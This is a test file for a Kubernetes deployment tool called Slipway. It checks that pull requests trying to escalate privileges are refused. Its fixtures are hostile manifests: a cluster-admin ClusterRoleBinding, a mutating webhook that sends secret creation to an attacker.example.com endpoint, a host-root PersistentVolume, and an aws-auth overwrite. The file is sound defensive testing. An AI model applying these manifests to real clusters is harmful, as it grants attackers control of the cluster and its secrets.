import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { NotFoundError } from "../../src/cluster/cluster-error.js";
import type { KubeObject } from "../../src/cluster/cluster-client.js";
import { withSlipwayMetadata } from "../../src/core/plan/with-slipway-metadata.js";
import { assertGolden } from "../support/golden.js";
import { startRecordingClusterProxy, type RecordingClusterProxy } from "../support/recording-cluster-proxy.js";
import { startTestApp, type TestApp } from "../support/start-test-app.js";
import type { CheckRunState } from "../support/github-simulator/simulator-state.js";
import { createTestNamespace, testClusterClient, type TestNamespace } from "../support/test-cluster.js";

// End to end (GitHub simulator, Slipway, the real test cluster behind a recording proxy): the
// clusters file bounds what a repository manages, and Slipway never shows or takes over an
// object this environment does not own.
const cluster = testClusterClient();
const suffix = randomBytes(3).toString("hex");
const plantedAwsAuth = "arn:aws:iam::111122223333:role/planted-aws-auth";
const plantedOther = "planted-other-repository-value";
let t: TestApp;
let ns: TestNamespace;
let proxy: RecordingClusterProxy;

before(async () => {
  ns = await createTestNamespace("app-policy");
  proxy = await startRecordingClusterProxy();
  t = await startTestApp({
    clusters: [
      {
        alias: "test",
        kubeconfig: proxy.kubeconfigPath,
        context: undefined,
        repositories: ["slipway-test/*"],
        namespaces: [ns.name],
        clusterResources: [],
        deniedKinds: [],
      },
    ],
  });
});
after(async () => {
  await t?.close();
  await proxy?.close();
  await ns?.cleanup();
});

const config = (extra = "") => `environments:
  - name: staging
    path: deploy/staging
    cluster: test
    namespace: ${ns.name}
${extra}`;

const clusterAdmin = `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: ci-${suffix}
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: cluster-admin
subjects:
  - kind: ServiceAccount
    name: default
    namespace: web
`;
const webhook = `apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata:
  name: inject-${suffix}
webhooks:
  - name: inject.example.com
    clientConfig: { url: "https://attacker.example.com/mutate" }
    rules: [{ operations: [CREATE], apiGroups: [""], apiVersions: [v1], resources: [secrets] }]
    sideEffects: None
    admissionReviewVersions: [v1]
`;
const hostVolume = `apiVersion: v1
kind: PersistentVolume
metadata:
  name: root-${suffix}
spec:
  capacity: { storage: 1Gi }
  accessModes: [ReadWriteOnce]
  hostPath: { path: / }
`;
const configMap = (name: string, value: string, namespace?: string) =>
  `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: ${name}\n${namespace ? `  namespace: ${namespace}\n` : ""}data:\n  mapRoles: "${value}"\n`;

function normalize(text: string): string {
  return text
    .replaceAll(ns.name, "<namespace>")
    .replaceAll(suffix, "<suffix>")
    .replace(/\b[0-9a-f]{7,40}\b/g, "<sha>");
}

function checkText(run: CheckRunState): string {
  const annotations = run.annotations.map((a) => `- ${a.path}:${a.start_line} ${a.annotation_level}: ${a.title ? `${a.title}: ` : ""}${a.message}`).join("\n");
  return normalize(`# ${run.output.title}\n\n${run.output.summary}\n\n${run.output.text ?? ""}\n\n## Annotations\n\n${annotations}\n`);
}

async function exists(ref: { apiVersion: string; kind: string; namespace?: string; name: string }): Promise<boolean> {
  try {
    await cluster.get(ref);
    return true;
  } catch (error) {
    if (error instanceof NotFoundError) return false;
    throw error;
  }
}

const aboutRefused = (url: string) =>
  url.includes(suffix) || url.includes("kube-system") || /\/(clusterrolebindings|mutatingwebhookconfigurations|persistentvolumes)\b/.test(url);

test("cluster-admin, a mutating webhook and a hostPath volume are refused by validate, plan and deploy, and never reach the cluster", async () => {
  const repo = await t.sim.createRepository({
    name: "policy-cluster-scoped",
    files: { ".github/slipway.yml": config(), "deploy/staging/app.yaml": configMap("app", "fine") },
  });
  t.sim.setPermission(repo, "octocat", "write");
  const before = proxy.requests.length;
  const opened = await t.sim.openPullRequest({
    repo,
    head: "escalate",
    author: "octocat",
    files: { "deploy/staging/admin.yaml": clusterAdmin, "deploy/staging/webhook.yaml": webhook, "deploy/staging/volume.yaml": hostVolume },
  });
  await t.settle();

  const [validate] = t.sim.checkRuns(repo, { headSha: opened.headSha, name: "Slipway / validate" });
  assert.equal(validate?.conclusion, "failure");
  assertGolden("app/policy-cluster-scoped.validate.md", checkText(validate!));
  const [plan] = t.sim.checkRuns(repo, { headSha: opened.headSha, name: "Slipway / plan: staging" });
  assert.equal(plan?.conclusion, "failure");
  assertGolden("app/policy-cluster-scoped.plan.md", checkText(plan!));

  const merged = await t.sim.mergePullRequest({ repo, number: opened.number });
  await t.settle();
  const status = t.sim
    .statuses(repo, merged.sha)
    .filter((s) => s.context === "slipway/deploy: staging")
    .at(-1);
  assert.equal(status?.state, "failure");
  const [deployment] = t.sim.deployments(repo).filter((d) => d.sha === merged.sha);
  const final = t.sim
    .deploymentStatuses(repo, deployment!.id)
    .sort((a, b) => a.id - b.id)
    .at(-1);
  assertGolden("app/policy-cluster-scoped.deploy.txt", `${normalize(status?.description ?? "")}\n${normalize(final?.description ?? "")}\n`);
  assert.equal(await exists({ apiVersion: "rbac.authorization.k8s.io/v1", kind: "ClusterRoleBinding", name: `ci-${suffix}` }), false);
  assert.deepEqual(
    proxy.requests.slice(before).filter((r) => aboutRefused(r.url)),
    [],
    "no request about a refused object reached the API server",
  );
  t.sim.assertNoViolations();
});

test("kube-system/aws-auth in a pull request is refused before any request; in an allowed namespace, an object not Slipway's is never shown by value", async () => {
  await cluster.apply(
    { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "aws-auth", namespace: ns.name }, data: { mapRoles: plantedAwsAuth } },
    { dryRun: false },
  );
  const repo = await t.sim.createRepository({
    name: "policy-aws-auth",
    files: { ".github/slipway.yml": config(), "deploy/staging/app.yaml": configMap("app", "fine") },
  });
  t.sim.setPermission(repo, "octocat", "write");
  const before = proxy.requests.length;
  const opened = await t.sim.openPullRequest({
    repo,
    head: "read-aws-auth",
    author: "octocat",
    files: { "deploy/staging/system.yaml": configMap("aws-auth", "attacker", "kube-system"), "deploy/staging/local.yaml": configMap("aws-auth", "attacker") },
  });
  await t.settle();

  const [plan] = t.sim.checkRuns(repo, { headSha: opened.headSha, name: "Slipway / plan: staging" });
  assert.equal(plan?.conclusion, "failure");
  const comment = t.sim.comments(repo, opened.number)[0]!.body;
  assertGolden("app/policy-aws-auth.comment.md", normalize(comment));
  assertGolden("app/policy-aws-auth.plan.md", checkText(plan!));
  for (const text of [comment, JSON.stringify(plan), JSON.stringify(t.logs)]) {
    assert.ok(!text.includes(plantedAwsAuth) && !text.includes("111122223333"), "the live object's data appears nowhere");
  }
  assert.deepEqual(
    proxy.requests.slice(before).filter((r) => r.url.includes("kube-system")),
    [],
    "nothing about kube-system reached the API server",
  );
  t.sim.assertNoViolations();
});

test("a deploy refuses to take over another repository's object, names its owner, and leaves it as it was", async () => {
  const owner = "slipway-test.billing.staging";
  await cluster.apply(
    withSlipwayMetadata(
      { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "shared", namespace: ns.name }, data: { mapRoles: plantedOther } },
      { environmentId: owner },
    ) as KubeObject,
    { dryRun: false },
  );
  // adopt covers objects nobody's Slipway knows, never another environment's.
  const repo = await t.sim.createRepository({ name: "policy-takeover", files: { ".github/slipway.yml": config("    adopt: true\n    prune: true\n") } });
  t.sim.setPermission(repo, "octocat", "write");
  const opened = await t.sim.openPullRequest({
    repo,
    head: "take-shared",
    author: "octocat",
    files: { "deploy/staging/shared.yaml": configMap("shared", "taken") },
  });
  await t.settle();
  const [plan] = t.sim.checkRuns(repo, { headSha: opened.headSha, name: "Slipway / plan: staging" });
  assert.equal(plan?.conclusion, "failure");
  assertGolden("app/policy-takeover.plan.md", checkText(plan!));

  const merged = await t.sim.mergePullRequest({ repo, number: opened.number });
  await t.settle();
  const status = t.sim
    .statuses(repo, merged.sha)
    .filter((s) => s.context === "slipway/deploy: staging")
    .at(-1);
  assert.equal(status?.state, "failure");
  const [deployment] = t.sim.deployments(repo).filter((d) => d.sha === merged.sha);
  const final = t.sim
    .deploymentStatuses(repo, deployment!.id)
    .sort((a, b) => a.id - b.id)
    .at(-1);
  assertGolden("app/policy-takeover.deploy.txt", `${normalize(status?.description ?? "")}\n${normalize(final?.description ?? "")}\n`);
  const shared = await cluster.get({ apiVersion: "v1", kind: "ConfigMap", namespace: ns.name, name: "shared" });
  assert.equal((shared as { data?: Record<string, string> }).data?.mapRoles, plantedOther, "its data is unchanged");
  assert.equal(shared.metadata.labels?.["slipway.dev/environment"], owner, "and it still belongs to its owner");
  for (const text of [JSON.stringify(plan), JSON.stringify(t.sim.comments(repo, opened.number))]) assert.ok(!text.includes(plantedOther));
  t.sim.assertNoViolations();
});
